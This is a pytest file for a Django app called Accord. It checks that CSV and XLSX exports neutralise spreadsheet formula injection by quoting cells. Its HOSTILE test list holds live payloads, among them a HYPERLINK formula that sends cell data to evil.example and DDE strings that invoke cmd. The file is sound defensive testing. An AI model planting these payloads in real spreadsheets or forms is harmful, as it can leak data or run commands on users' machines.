"""Every CSV Accord writes neutralises spreadsheet formulas: hostile names typed into Accord come out
as text, never as a live formula, and every download says its charset."""

import csv
import io

import pytest
from django.test import Client

from accord.lib.exports import csv_response, csv_text, safe_cell, unquote_cell
from tests.mailing.conftest import lists, signup_data  # noqa: F401 - the fixture is used below

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.reader(io.StringIO(response.content.decode())))


def _safe(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text_and_comes_back_unchanged(value):
    cell = safe_cell(value)
    assert cell == "'" + value and _safe(cell) and unquote_cell(cell) == value


def test_numbers_and_plain_text_stay_as_they_are():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""
    assert safe_cell("Alpha Charity") == "Alpha Charity" and unquote_cell("'quoted") == "'quoted"


def test_the_helper_quotes_every_cell_of_every_row():
    rows = list(csv.reader(io.StringIO(csv_text(["=head"], [[v] for v in HOSTILE]))))
    assert all(_safe(row[0]) for row in rows)
    response = csv_response(["a"], [["b"]], 'naïve "name".csv')
    assert response["Content-Type"] == "text/csv; charset=utf-8" and "filename" in response["Content-Disposition"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_from_the_public_sign_up_form_reaches_the_export_as_text(lists, world, name):  # noqa: F811
    address = f"mallory-{HOSTILE.index(name)}@example.org"  # the sign-up limit counts per address
    Client(REMOTE_ADDR=f"198.51.100.{HOSTILE.index(name)}").post("/lists/news/", signup_data(
        lists.shared, address, name=name))
    rows = _rows(world.client("manager").get(f"/p/{world.partnership.pk}/lists/{lists.shared.pk}/export.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert address in cells and all(_safe(c) for c in cells)
    api = world.client("manager").get(f"/api/partnerships/{world.partnership.pk}/lists/{lists.shared.pk}/export")
    assert all(_safe(c) for row in _rows(api)[1:] for c in row)


def test_the_trust_import_template_quotes_an_organisations_name_and_reads_it_back(world):
    world.org_a.name = "=cmd|' /C calc'!A0"
    world.org_a.save()
    rows = _rows(world.client("manager").get(f"/p/{world.partnership.pk}/trust/import-template.csv"))
    assert all(_safe(c) for row in rows for c in row) and "'=cmd|' /C calc'!A0" in rows[1]
    # filled in and uploaded again as it is, the quoted name still names the organisation
    from accord.trust import importing
    from tests.trust.conftest import open_wave

    data = "\n".join(",".join(f'"{c}"' for c in row) for row in rows)
    assert importing.import_responses(actor=world.users["manager"], wave=open_wave(world), data=data) == 1


def test_the_funders_portfolio_quotes_a_partnerships_name(world):
    import datetime as dt

    from django.utils import timezone

    from accord.health.models import HealthSnapshot
    from accord.health.services import current_refresh

    world.partnership.name = "@SUM(1+1)"
    world.partnership.save()
    HealthSnapshot.objects.create(partnership=world.partnership, month=dt.date(2026, 6, 1), computed_at=timezone.now(),
                                  overall=-5.0, scores={"stability": 95.0}, weights={"stability": 1.0})
    current_refresh([world.partnership.pk])
    rows = _rows(world.client("funder").get("/funders/?format=csv"))
    assert rows[1][0] == "'@SUM(1+1)" and rows[1][2] == "-5.0"  # numbers stay numbers


def test_a_csv_shared_in_the_library_downloads_with_its_charset(world, settings, tmp_path):
    from tests.library.conftest import share, upload

    settings.MEDIA_ROOT = str(tmp_path)
    item = share(world, kind="file", title="Referrals", file=upload("referrals.csv", "Näme,n\nAlpha,1\n".encode()))
    response = world.client("staff_a").get(f"/p/{world.partnership.pk}/library/{item.pk}/download/")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"


def test_the_same_call_writes_a_formula_safe_spreadsheet():
    import datetime as dt

    from openpyxl import load_workbook

    from accord.lib.exports import XLSX_TYPE, table_response

    response = table_response(["Name", "Count", "Due"], [[h, 3, dt.date(2026, 1, 2)] for h in HOSTILE], "commitments",
                              "xlsx")
    assert response["Content-Type"] == XLSX_TYPE
    assert 'filename="commitments.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Name", "Count", "Due")
    for (name, count, due), hostile in zip(rows[1:], HOSTILE, strict=True):
        assert name == "'" + hostile.replace("\r", "\n") and _safe(name)  # text, never a formula (XML keeps no \r)
        assert count == 3 and due.date() == dt.date(2026, 1, 2)  # numbers and dates keep their type
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    csv_rows = _rows(table_response(["Name"], [[h] for h in HOSTILE], "commitments", "csv"))
    assert all(_safe(r[0]) for r in csv_rows)
